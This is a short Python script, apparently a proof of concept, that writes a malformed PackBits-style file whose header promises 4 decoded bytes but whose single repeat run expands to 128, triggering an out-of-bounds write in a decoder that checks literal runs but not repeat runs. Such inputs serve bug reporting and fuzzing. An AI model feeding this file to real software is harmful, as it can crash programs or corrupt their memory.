"""Writes the PoC: a strip that says it decodes to 4 bytes and holds one repeat run of 128
bytes (control byte -127). Literal runs are checked against the room left in the output, but
repeat runs are not."""

import sys

packed = bytes([0x81, ord("A")])  # -127: repeat 'A' 128 times
data = b"PB" + (4).to_bytes(2, "big") + len(packed).to_bytes(2, "big") + packed
with open(sys.argv[1] if len(sys.argv) > 1 else "poc", "wb") as f:
    f.write(data)
